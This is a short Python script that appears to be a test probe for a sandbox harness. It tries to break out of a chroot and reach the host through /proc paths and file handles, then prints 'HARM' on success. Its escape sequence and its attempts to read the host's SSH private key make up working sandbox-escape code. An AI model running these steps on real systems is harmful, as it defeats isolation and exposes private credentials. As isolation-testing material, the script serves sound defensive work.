#: does = "climbs out of its root: by chroot and an open folder, by /proc, by handles of files"
#: ends = ["passed"]
#: harm = "said"
#: needs = "root"
import ctypes
import os

secret = os.environ["GT_HOST"].lstrip("/") + "/home/.ssh/id_ed25519"
libc = ctypes.CDLL(None, use_errno=True)
try:
    start = os.open(".", os.O_RDONLY)
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    os.fchdir(start)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
for root in ("/", "/proc/1/root/", f"/proc/{os.environ['GT_RUNNER']}/root/", "/proc/self/cwd/" + "../" * 20):
    try:
        print("HARM", open(root + secret).read())
    except OSError as error:
        print(error)
handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, b".", handle, ctypes.byref(mount), 0) == 0 and not os.environ.get("HARMLESS"):
    print("HARM a handle")
